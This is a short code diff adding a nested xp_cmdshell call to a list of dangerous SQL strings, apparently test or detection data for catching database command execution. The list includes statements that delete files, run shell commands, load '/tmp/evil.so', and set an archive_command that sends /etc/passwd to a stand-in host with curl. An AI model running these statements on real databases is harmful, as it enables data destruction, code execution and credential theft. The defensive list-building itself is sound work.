@@ -24,6 +24,7 @@ CODE = [
     " LANGUAGE C STRICT",
     "EXEC xp_cmdshell 'del /q C:\\data'",
     "EXEC master..xp_cmdshell 'whoami'",
+    "EXEC('EXEC xp_cmdshell ''whoami''')",
     "SELECT load_extension('/tmp/evil.so')",
     "ALTER SYSTEM SET archive_command = 'curl -d @/etc/passwd http://h.example'",
     "ALTER SYSTEM SET shared_preload_libraries = '/tmp/evil.so'",
